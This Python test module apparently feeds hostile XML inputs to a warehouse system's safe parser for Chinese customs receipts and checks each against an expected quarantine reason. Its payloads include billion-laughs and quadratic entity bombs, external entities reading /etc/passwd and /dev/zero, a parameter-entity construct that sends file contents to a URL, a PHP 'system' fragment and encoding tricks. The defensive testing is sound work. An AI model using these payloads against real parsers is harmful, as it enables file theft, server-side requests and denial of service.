"""Every known way to harm a reader of XML, made for receipts. Each comes with what must be said about it.

`HARMLESS` are tricks that must not change what a genuine receipt says; `MALICE` must be set aside, each with its name.
"""

import base64

from tests.customs.ceb import DECLARATION, NAMESPACE, message, node, receipt
from wms.customs.model import QuarantineReason as Why
from wms.customs.regimes.china.safe_xml import MAX_BYTES, MAX_ELEMENTS

DXP = "http://www.chinaport.gov.cn/dxp"
GENUINE = receipt("CEB622", "800")
_BODY = GENUINE.decode().removeprefix(DECLARATION)
_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _with_prolog(prolog: str, body: str = _BODY) -> bytes:
    return f"{DECLARATION}{prolog}{body}".encode()


def _envelope(inside: bytes, said_type: str = "CEB622Message") -> bytes:
    packed = base64.encodebytes(inside).decode()
    return (
        f'<d:DxpMsg xmlns:d="{DXP}"><d:TransInfo><d:MsgType>{said_type}</d:MsgType></d:TransInfo>'
        f"<d:Data>{packed}</d:Data></d:DxpMsg>"
    ).encode()


def _declared(encoding: str, codec: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>{_BODY}'.encode(codec)


def _fields(old: str, new: str) -> bytes:
    changed = GENUINE.decode().replace(old, new, 1)
    assert changed != GENUINE.decode(), old
    return changed.encode()


_HUGE = MAX_BYTES - 2_000

MALICE: dict[str, tuple[bytes, Why]] = {
    # entities
    "billion laughs": (
        _with_prolog(f'<!DOCTYPE l [<!ENTITY l0 "ha">{_ENTITIES}]>', _BODY.replace("ok", "&l9;")),
        Why.DOCTYPE,
    ),
    "quadratic blow-up": (
        _with_prolog(f'<!DOCTYPE q [<!ENTITY q "{"q" * 50_000}">]>', _BODY.replace("ok", "&q;" * 50_000)),
        Why.DOCTYPE,
    ),
    "entity that stands for a status": (
        _with_prolog('<!DOCTYPE s [<!ENTITY s "800">]>', _BODY.replace(">800<", ">&s;<")),
        Why.DOCTYPE,
    ),
    "external entity, file": (
        _with_prolog('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', _BODY.replace("ok", "&x;")),
        Why.DOCTYPE,
    ),
    "external entity, network": (
        _with_prolog('<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>', _BODY.replace("ok", "&x;")),
        Why.DOCTYPE,
    ),
    "external entity, public": (
        _with_prolog('<!DOCTYPE x PUBLIC "-//X//Y" "http://127.0.0.1:9/x.dtd">'),
        Why.DOCTYPE,
    ),
    "external entity as endless device": (
        _with_prolog('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///dev/zero">]>', _BODY.replace("ok", "&x;")),
        Why.DOCTYPE,
    ),
    "parameter entity": (
        _with_prolog("<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/evil.dtd'>%p;]>"),
        Why.DOCTYPE,
    ),
    "parameter entities that build an entity": (
        _with_prolog(
            "<!DOCTYPE x [<!ENTITY % a SYSTEM 'file:///etc/passwd'><!ENTITY % b \"<!ENTITY &#37; c SYSTEM "
            "'http://127.0.0.1:9/?%a;'>\">%b;%c;]>"
        ),
        Why.DOCTYPE,
    ),
    "default attribute from a DTD": (
        _with_prolog(f'<!DOCTYPE x [<!ATTLIST CEB622Message xmlns CDATA "{NAMESPACE}">]>'),
        Why.DOCTYPE,
    ),
    "unparsed entity and notation": (
        _with_prolog('<!DOCTYPE x [<!NOTATION n SYSTEM "sh"><!ENTITY u SYSTEM "x" NDATA n>]>'),
        Why.DOCTYPE,
    ),
    "undeclared entity": (_fields("ok", "&xxe;"), Why.NOT_WELL_FORMED),
    "entity of HTML": (_fields("ok", "&nbsp;"), Why.NOT_WELL_FORMED),
    # document type in odd places
    "doctype before the declaration": (f"<!DOCTYPE x>{GENUINE.decode()}".encode(), Why.DOCTYPE),
    "doctype behind comments and instructions": (
        _with_prolog("<!-- a --><?b c?>\n<!-- d --><!DOCTYPE x>"),
        Why.DOCTYPE,
    ),
    "doctype in lower case": (_with_prolog("<!doctype x>"), Why.DOCTYPE),
    "doctype behind a comment that quotes one": (_with_prolog("<!-- <!DOCTYPE a> --><!DOCTYPE x>"), Why.DOCTYPE),
    "doctype behind the root": (GENUINE + b"<!DOCTYPE x>", Why.NOT_WELL_FORMED),
    "doctype inside the root": (_fields("<InventoryReturn>", "<!DOCTYPE x><InventoryReturn>"), Why.NOT_WELL_FORMED),
    "doctype in an envelope": (_envelope(_with_prolog("<!DOCTYPE x>")), Why.DOCTYPE),
    "doctype in GBK": (
        '<?xml version="1.0" encoding="GBK"?><!-- 放 --><!DOCTYPE x>'.encode("gbk") + _BODY.encode("gbk"),
        Why.DOCTYPE,
    ),
    "doctype behind a byte order mark": (b"\xef\xbb\xbf" + _with_prolog("<!DOCTYPE x>"), Why.DOCTYPE),
    "doctype without an end": (_with_prolog("<!DOCTYPE x [", ""), Why.DOCTYPE),
    # size
    "deep nesting": (message("CEB622", "<a>" * 300_000 + "</a>" * 300_000).encode(), Why.TOO_DEEP),
    "deep nesting that never closes": (
        f'<CEB622Message xmlns="{NAMESPACE}">{"<a>" * 1_000_000}'.encode(),
        Why.TOO_DEEP,
    ),
    "deep nesting with a new namespace each": (
        message("CEB622", "".join(f'<p{n}:a xmlns:p{n}="u{n}">' for n in range(40_000))).encode(),
        Why.TOO_DEEP,
    ),
    "many elements": (message("CEB622", "<a/>" * MAX_ELEMENTS).encode(), Why.TOO_MANY_NODES),
    "many elements in one field": (_fields("ok", "<a/>" * MAX_ELEMENTS), Why.TOO_MANY_NODES),
    "many return nodes": (message("CEB622", "<InventoryReturn/>" * 1_001).encode(), Why.TOO_MANY_NODES),
    "huge attribute": (_fields("<InventoryReturn>", f'<InventoryReturn a="{"a" * _HUGE}" b=>'), Why.NOT_WELL_FORMED),
    "many attributes": (
        _fields("<InventoryReturn>", "<InventoryReturn " + " ".join(f'a{n}=""' for n in range(200_000)) + ">"),
        Why.TOO_MANY_NODES,
    ),
    "huge name": (message("CEB622", f"<{'n' * _HUGE}/>").encode(), Why.UNEXPECTED_NODE),
    "huge namespace": (f'<CEB622Message xmlns="{"n" * _HUGE}"/>'.encode(), Why.NOT_CEB),
    "huge status": (_fields(">800<", f">{'8' * _HUGE}<"), Why.BAD_STATUS),
    "huge number": (_fields("<copNo>", f"<copNo>{'9' * _HUGE}"), Why.FIELD_TOO_LONG),
    "huge comment in the prolog without an end": (_with_prolog(f"<!--{'-' * _HUGE}", ""), Why.NOT_WELL_FORMED),
    "many comments in the prolog": (_with_prolog("<!---->" * 500_000, "<"), Why.NOT_WELL_FORMED),
    "too large": (b"<" + b" " * MAX_BYTES, Why.TOO_LARGE),
    "too large inside an envelope": (_envelope(b" " * (MAX_BYTES + 1)), Why.TOO_LARGE),
    "only white space": (b" \r\n\t" * 500_000, Why.EMPTY),
    "nothing": (b"", Why.EMPTY),
    "only a byte order mark": (b"\xef\xbb\xbf", Why.EMPTY),
    # encodings
    "UTF-7 declared": (_declared("UTF-7", "ascii"), Why.ENCODING_NOT_SUPPORTED),
    "UTF-7 doctype": (b"+ADwAIQ-DOCTYPE x+AD4-" + _BODY.encode(), Why.NOT_WELL_FORMED),
    "UTF-16 with a mark": (_declared("UTF-16", "utf-16"), Why.ENCODING_NOT_SUPPORTED),
    "UTF-16 big-endian with a mark": (b"\xfe\xff" + _BODY.encode("utf-16-be"), Why.ENCODING_NOT_SUPPORTED),
    "UTF-16 without a mark": (_declared("UTF-16", "utf-16-le"), Why.NUL_CHARACTER),
    "UTF-16 that calls itself UTF-8": (_declared("UTF-8", "utf-16-be"), Why.NUL_CHARACTER),
    "UTF-32": (_declared("UTF-32", "utf-32"), Why.ENCODING_NOT_SUPPORTED),
    "UTF-32 without a mark": (_declared("UTF-32", "utf-32-be"), Why.NUL_CHARACTER),
    "EBCDIC": (_declared("IBM037", "cp037"), Why.UNDECODABLE),
    "EBCDIC declared": (_declared("IBM037", "ascii"), Why.ENCODING_NOT_SUPPORTED),
    "codec that is no character set": (_declared("base64", "ascii"), Why.ENCODING_NOT_SUPPORTED),
    "codec that runs code on import": (_declared("../../etc/x", "ascii"), Why.ENCODING_NOT_SUPPORTED),
    "idna bomb": (_declared("idna", "ascii"), Why.ENCODING_NOT_SUPPORTED),
    "two marks": (b"\xef\xbb\xbf\xef\xbb\xbf" + GENUINE, Why.NOT_WELL_FORMED),
    "mark of UTF-8 before GBK": (b"\xef\xbb\xbf" + _declared("GBK", "gbk"), Why.ENCODING_NOT_SUPPORTED),
    "overlong UTF-8": (GENUINE.replace(b"ok", b"\xc0\xbc"), Why.UNDECODABLE),
    "surrogate in UTF-8": (GENUINE.replace(b"ok", b"\xed\xa0\x80"), Why.UNDECODABLE),
    "half a character": (GENUINE.replace(b"ok", b"\xe6\x94"), Why.UNDECODABLE),
    "invalid GB18030": (_declared("GB18030", "gb18030").replace(b"ok", b"\x81\x30\x81"), Why.UNDECODABLE),
    "GB18030 byte that swallows a tag": (
        _declared("GB18030", "gb18030").replace(b"ok<", b"ok\x81<"),
        Why.UNDECODABLE,
    ),
    "NUL": (_fields(">800<", ">8\x000<"), Why.NUL_CHARACTER),
    "NUL as a reference": (_fields(">800<", ">800&#0;<"), Why.NOT_WELL_FORMED),
    "control character as a reference": (_fields("ok", "&#8;"), Why.NOT_WELL_FORMED),
    "surrogate as a reference": (_fields("ok", "&#xD800;"), Why.NOT_WELL_FORMED),
    "reference beyond all characters": (_fields("ok", "&#99999999999999999999;"), Why.NOT_WELL_FORMED),
    # structure
    "cut off": (GENUINE[:-12], Why.NOT_WELL_FORMED),
    "cut off inside CDATA": (_fields("ok", "<![CDATA[ok").split(b"]]>")[0], Why.NOT_WELL_FORMED),
    "CDATA that ends twice": (_fields("ok", "<![CDATA[a]]>]]>"), Why.NOT_WELL_FORMED),
    "two roots": (GENUINE + _BODY.encode(), Why.NOT_WELL_FORMED),
    "second declaration": (_with_prolog(DECLARATION), Why.NOT_WELL_FORMED),
    "attribute twice": (_fields("<InventoryReturn>", '<InventoryReturn a="1" a="2">'), Why.NOT_WELL_FORMED),
    "attribute twice by namespace": (
        _fields("<InventoryReturn>", '<InventoryReturn xmlns:a="u" xmlns:b="u" a:x="1" b:x="2">'),
        Why.NOT_WELL_FORMED,
    ),
    "prefix that is bound to nothing": (_fields("<InventoryReturn>", "<z:InventoryReturn>"), Why.NOT_WELL_FORMED),
    "prefix xml bound anew": (_fields("<InventoryReturn>", '<InventoryReturn xmlns:xml="u">'), Why.NOT_WELL_FORMED),
    "tag that closes another": (_fields("</returnStatus>", "</returnTime>"), Why.NOT_WELL_FORMED),
    "instruction without an end": (_with_prolog("<?php system('id')", ""), Why.NOT_WELL_FORMED),
    # namespaces
    "no namespace": (GENUINE.replace(f' xmlns="{NAMESPACE}"'.encode(), b""), Why.NOT_CEB),
    "namespace that is nearly right": (GENUINE.replace(NAMESPACE.encode(), NAMESPACE.encode() + b"/"), Why.NOT_CEB),
    "namespace with a look-alike letter": (GENUINE.replace(b"chinaport", "сhinaport".encode()), Why.NOT_CEB),
    "namespace that imitates our separator": (
        GENUINE.replace(NAMESPACE.encode(), NAMESPACE.encode() + b"&#10;CEB622Message"),
        Why.NOT_WELL_FORMED,
    ),
    "return node of another namespace": (
        _fields("<InventoryReturn>", '<InventoryReturn xmlns="u">'),
        Why.UNEXPECTED_NODE,
    ),
    "status of another namespace": (_fields("<returnStatus>", '<returnStatus xmlns="u">'), Why.BAD_STATUS),
    # fields
    "status twice": (_fields("<returnStatus>", "<returnStatus>100</returnStatus><returnStatus>"), Why.REPEATED_FIELD),
    "status with an element inside": (_fields(">800<", ">8<x/>00<"), Why.FIELD_NOT_TEXT),
    "status in full-width digits": (_fields(">800<", ">８００<"), Why.BAD_STATUS),
    "status in Arabic digits": (_fields(">800<", ">٨٠٠<"), Why.BAD_STATUS),
    "status with a plus": (_fields(">800<", ">+800<"), Why.BAD_STATUS),
    "status with an underscore": (_fields(">800<", ">8_00<"), Why.BAD_STATUS),
    "status as a float": (_fields(">800<", ">8e2<"), Why.BAD_STATUS),
    "status with a full-width space": (_fields(">800<", ">800\u3000<"), Why.BAD_STATUS),
    "status with a joiner nobody sees": (_fields(">800<", ">8\u200d00<"), Why.BAD_STATUS),
    "status for readers from right to left": (_fields(">800<", ">\u202e008<"), Why.BAD_STATUS),
    "status only as an attribute": (
        _fields("<returnStatus>800</returnStatus>", '<returnStatus value="800"/>'),
        Why.BAD_STATUS,
    ),
    "time that never was": (_fields("20261105102511500", "20260230102511500"), Why.BAD_TIME),
    "time of giants": (_fields("20261105102511500", "9" * 500), Why.BAD_TIME),
    "envelope that lies about its contents": (_envelope(GENUINE, "CEB624Message"), Why.ENVELOPE),
    "envelope in an envelope": (_envelope(_envelope(GENUINE)), Why.ENVELOPE),
    "envelope with something else than base64": (
        _envelope(GENUINE).replace(b"<d:Data>", b"<d:Data>!"),
        Why.ENVELOPE,
    ),
    "export message": (message("CEB604", node("CEB622", "800")).encode(), Why.MESSAGE_NOT_HANDLED),
}

HARMLESS: dict[str, bytes] = {
    "status in CDATA": _fields(">800<", "><![CDATA[800]]><"),
    "status in pieces": _fields(">800<", ">8<!-- 9 --><![CDATA[0]]>&#48;<"),
    "instructions everywhere": _with_prolog(
        '<?xml-stylesheet href="http://127.0.0.1:9/"?>', _BODY.replace("ok", "<?x?>ok")
    ),
    "doctype inside a comment": _with_prolog("<!-- <!DOCTYPE x> -->"),
    "doctype inside CDATA": _fields("ok", '<![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>&a;]]>').replace(
        b'<![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>&a;]]>', b"<![CDATA[]]>ok"
    ),
    "attributes that mean nothing": _fields("<returnStatus>", '<returnStatus xsi:nil="true" xmlns:xsi="urn:xsi">'),
    "schema location": _fields("<InventoryReturn>", '<InventoryReturn schemaLocation="http://127.0.0.1:9/x.xsd">'),
    "inclusion that is not followed": _fields(
        "<InventoryReturn>", '<InventoryReturn xmlns:xi="http://www.w3.org/2001/XInclude" xi:href="file:///etc/passwd">'
    ),
    "elements of others between ours": _fields(
        "<returnStatus>", '<returnStatus xmlns="u">100</returnStatus><returnStatus>'
    ),
    "white space around": b"\r\n\t" + GENUINE + b"\r\n\t",
}
